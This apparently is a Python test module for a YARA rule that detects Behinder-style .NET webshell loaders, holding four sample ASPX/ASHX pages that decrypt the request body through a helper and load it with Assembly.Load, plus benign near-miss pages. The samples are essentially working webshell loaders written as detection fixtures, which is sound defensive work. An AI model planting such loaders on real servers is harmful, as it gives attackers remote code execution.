"""Rules from the twenty-third unseen collection: shells quoted in issue and pull-request threads (issue 14,
helper X23).

The own rules found all 13 shells of the collection on first sight (BENCHMARKS.md, "Unseen shells,
twenty-third collection: shells quoted in issue threads"), three of them through the behaviour analysis
alone. One of those shapes gets a YARA rule, so that a page of that shape is still named when the behaviour
analysis does not finish: the loader a Behinder 4 generator writes, quoted in a tracker thread about it - the
raw request body is read, handed to a decrypting helper function declared in the same page, and the result
goes to ``Assembly.Load(helper(body)).CreateInstance(...)`` in one expression. The Behinder-style rule of
the twenty-first collection (``EXT_WEBSHELL_Assembly_Load_Decrypted_Request``) wants the decryptor inside the
``Assembly.Load`` statement, which this shape moves into the helper. The rule is
``EXT_WEBSHELL_Assembly_Load_Helper_Decrypted_Body`` in ``data/rules/reflected_loaders.yar``. The pages below
reproduce the shape (AES and XOR helpers, C# and VB, a page and a handler) and the ordinary pages closest to
it. All pages were written for these tests: nothing is compiled or run, keys and class names are
placeholders, and none is a copy of a real shell.
"""

from __future__ import annotations

from .rule_tables import Page, RuleCase, rule_tables

_RULE = "EXT_WEBSHELL_Assembly_Load_Helper_Decrypted_Body"

HELPER_LOADERS: list[Page] = [
    (
        "cs-aes-helper-binary-read",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Reflection" %>\n<script runat="server">\n'
        "  private byte[] Unwrap(byte[] data)\n  {\n"
        "    var aes = new System.Security.Cryptography.RijndaelManaged();\n"
        "    aes.Mode = System.Security.Cryptography.CipherMode.ECB;\n"
        '    aes.Key = Encoding.UTF8.GetBytes("placeholder00000");\n'
        "    return aes.CreateDecryptor().TransformFinalBlock(data, 0, data.Length);\n  }\n</script>\n"
        '<% byte[] b = Request.BinaryRead(Request.ContentLength); Assembly.Load(Unwrap(b)).CreateInstance("Probe").Equals(this); %>',
    ),
    (
        "cs-xor-helper-input-stream",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "byte[] Mix(byte[] d) {\n"
        '  byte[] k = System.Text.Encoding.ASCII.GetBytes("placeholder00000");\n'
        "  for (int i = 0; i < d.Length; i++) { d[i] = (byte)(d[i] ^ k[i + 1 & 15]); }\n  return d;\n}\n"
        "void Page_Load(object s, EventArgs e) {\n"
        "  var ms = new System.IO.MemoryStream(); Request.InputStream.CopyTo(ms);\n"
        "  byte[] body = ms.ToArray();\n"
        '  System.Reflection.Assembly.Load(Mix(body)).CreateInstance("Probe").Equals(this);\n}\n</script>',
    ),
    (
        "vb-aes-helper-binary-read",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Function Unwrap(d As Byte()) As Byte()\n"
        "  Dim a As New System.Security.Cryptography.RijndaelManaged()\n"
        '  a.Key = System.Text.Encoding.UTF8.GetBytes("placeholder00000")\n'
        "  Return a.CreateDecryptor().TransformFinalBlock(d, 0, d.Length)\nEnd Function\n"
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        "  Dim c As Byte() = Request.BinaryRead(Request.ContentLength)\n"
        '  System.Reflection.[Assembly].Load(Unwrap(c)).CreateInstance("Probe").Equals(Me)\n'
        "End Sub\n</script>",
    ),
    (
        "ashx-base64-aes-helper",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\n'
        "public class H : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  static byte[] Open(string s) {\n    byte[] k = new byte[16], c = System.Convert.FromBase64String(s);\n"
        "    return System.Security.Cryptography.Aes.Create().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length);\n  }\n"
        "  public void ProcessRequest(HttpContext ctx) {\n"
        "    string t = new System.IO.StreamReader(ctx.Request.InputStream).ReadToEnd();\n"
        '    System.Reflection.Assembly.Load(Open(t)).CreateInstance("Probe").Equals(ctx);\n  }\n}',
    ),
]

HELPER_LOADERS_ORDINARY: list[Page] = [
    (
        "plugin-from-disk-through-helper",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "byte[] ReadPlugin(string name) {\n"
        '  byte[] k = new byte[16], c = System.IO.File.ReadAllBytes(Server.MapPath("~/plugins/" + name + ".bin"));\n'
        "  return System.Security.Cryptography.Aes.Create().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length);\n}\n"
        "void Page_Load(object s, EventArgs e) {\n"
        '  string report = Request.QueryString["report"] ?? "monthly";\n'
        '  var p = System.Reflection.Assembly.Load(ReadPlugin(report)).CreateInstance("Reports.Plugin");\n'
        '  Out.Text = p.ToString();\n}\n</script>\n<asp:Label id="Out" runat="server" />',
    ),
    (
        "encrypted-upload-decrypted-through-helper-and-saved",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Up" %>\nusing System.Web;\n'
        "public class Up : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  static byte[] Open(byte[] c) { byte[] k = new byte[16];\n"
        "    return System.Security.Cryptography.Aes.Create().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length); }\n"
        "  public void ProcessRequest(HttpContext ctx) {\n"
        "    byte[] body = ctx.Request.BinaryRead(ctx.Request.ContentLength);\n"
        '    System.IO.File.WriteAllBytes(ctx.Server.MapPath("~/App_Data/in.bin"), Open(body));\n  }\n}',
    ),
    (
        "json-body-known-type-created",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        "  string json = new System.IO.StreamReader(Request.InputStream).ReadToEnd();\n"
        '  var asm = System.Reflection.Assembly.Load("App.Widgets");\n'
        '  var w = asm.CreateInstance("App.Widgets.Chart");\n'
        '  Out.Text = w + " " + json.Length;\n}\n</script>\n<asp:Label id="Out" runat="server" />',
    ),
]

CASES: list[RuleCase] = [
    (_RULE, HELPER_LOADERS, HELPER_LOADERS_ORDINARY),
]

(
    test_shell_is_found,
    test_ordinary_page_is_not_flagged,
    test_rule_needs_a_server_page,
) = rule_tables(CASES)
